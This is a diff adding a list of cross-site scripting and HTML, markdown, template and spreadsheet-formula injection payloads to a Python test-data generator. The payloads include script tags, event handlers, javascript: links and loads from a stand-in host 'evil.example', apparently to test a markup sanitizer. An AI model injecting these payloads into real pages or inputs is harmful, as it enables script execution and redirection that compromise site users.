@@ -29,3 +29,18 @@ def links(count: int, seed: int = 1) -> Iterator[tuple[str, dict[str, list[str]]
         pairs = [(n, v) for n, values in asked.items() for v in values]
         written = [f"{n}={v if chance.random() < 0.1 and v.isascii() and v.isprintable() else quote(v, safe='%' if chance.random() < 0.3 else '')}" for n, v in pairs]  # fmt: skip
         yield chance.choice(("&", "&", "&", "&&", ";")).join(written), asked
+
+
+# What runs, loads or leads elsewhere where markup is let through. MARK would be set, PLACE be asked.
+MARK, PLACE = "window.broken=1", "//evil.example/p"
+PAYLOADS = (
+    f"<script>{MARK}</script>", f"<ScRiPt >{MARK}</sCrIpT>", f"</style><script>{MARK}</script>", f"</title><script>{MARK}</script>", f"</textarea><script>{MARK}</script>",
+    f"<script src=https:{PLACE}.js></script>", f"<img src=x onerror={MARK}>", f"<img src=https:{PLACE}.png>", f"<img srcset='https:{PLACE}.png 2x'>", f"<svg onload={MARK}>",
+    f"<svg><script>{MARK}</script></svg>", f"<svg><use href='https:{PLACE}.svg#x'/></svg>", f"<math><mtext><img src=x onerror={MARK}></mtext></math>", f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
+    f"<iframe src=https:{PLACE}></iframe>", f"<iframe src=javascript:parent.{MARK}></iframe>", f"<object data=https:{PLACE}></object>", f"<embed src=https:{PLACE}>", f"<link rel=stylesheet href=https:{PLACE}.css>",
+    f"<style>@import 'https:{PLACE}.css';</style>", f"<style>*{{background:url(https:{PLACE}.png)}}</style>", f"<p style='background:url(https:{PLACE}.png)'>x</p>", f"<meta http-equiv=refresh content='0;url=https:{PLACE}'>",
+    f"<base href=https:{PLACE}/>", f"<form action=https:{PLACE}><button>go</button></form>", f"<a href='javascript:{MARK}'>x</a>", f"<a href='java\tscript:{MARK}'>x</a>", f"<a href='&#106;avascript:{MARK}'>x</a>",
+    f"<a href='data:text/html,<script>{MARK}</script>'>x</a>", f"<details open ontoggle={MARK}>x</details>", f"<input autofocus onfocus={MARK}>", f"<body onload={MARK}>", f"<video><source onerror={MARK}></video>",
+    f"<marquee onstart={MARK}>x</marquee>", f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>", f"<!--><img src=x onerror={MARK}>-->", f"![x](https:{PLACE}.png)", f"[x](javascript:{MARK})", f"[x]: https:{PLACE} ![y][x]",
+    f"<https:{PLACE}.png>", f"$$\\href{{javascript:{MARK}}}{{x}}$$", f"' onmouseover={MARK} x='", f'" autofocus onfocus={MARK} x="', f"{{{{constructor.constructor('{MARK}')()}}}}", f"=HYPERLINK(\"https:{PLACE}\")",
+)  # fmt: skip
